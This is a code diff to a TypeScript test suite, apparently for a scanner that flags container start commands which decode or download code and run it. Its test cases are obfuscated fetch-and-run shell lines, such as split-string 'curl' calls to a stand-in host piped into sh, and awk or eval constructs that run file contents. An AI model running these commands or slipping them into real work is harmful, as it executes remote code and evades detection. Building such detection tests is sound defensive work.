@@ -7,16 +7,24 @@ function found(text: string, files: Files = LINES, config: ImageCase['spec']['co
   return { name: text, spec: starts(`${text}\nexec nginx`, files, config), rule: 'start/decode-and-run' };
 }
 
+/** What of it is worked out all the same is told for what it does. */
+function workedOut(text: string, files: Files = LINES): ImageCase {
+  return { ...found(text, files), rule: 'start/download-and-run' };
+}
+
 const CODES = [...FETCH].map((character) => character.charCodeAt(0)).join(' ');
 
 /** A shell is given what commands make of a file, or of their own words, and nothing here can tell what that is. */
 export const TAKEN_APART: readonly ImageCase[] = [
-  found("awk 'NR==2' /opt/a | sh"),
+  workedOut("awk 'NR==2' /opt/a | sh"),
   found(`awk '{print $0 | "sh"}' /opt/a`),
   found(`awk '{ system($0) }' /opt/a`),
   found(`awk 'BEGIN{printf "%s%s -s https://files.backend.example/u | %s", "cu", "rl", "sh"}' | sh`),
-  found("paste -d '' /opt/a /opt/b | sh", { 'opt/a': 'cu\n', 'opt/b': 'rl -s files.backend.example | sh\n' }),
-  found('sort -n /opt/a | uniq | bash'),
+  workedOut("paste -d '' /opt/a /opt/b | sh", {
+    'opt/a': 'cu\n',
+    'opt/b': 'rl -s files.backend.example | sh\n',
+  }),
+  workedOut('sort -n /opt/a | uniq | bash'),
   found('tail -n 1 /usr/bin/app | sh', { 'usr/bin/app': program([`\n${FETCH}\n`]) }),
   found("jq -r '.x|@base64d' /opt/a.json | sh", { 'opt/a.json': JSON.stringify({ x: base64(FETCH) }) }),
   found(`eval "$(sqlite3 /opt/a.db 'select x from t')"`, {
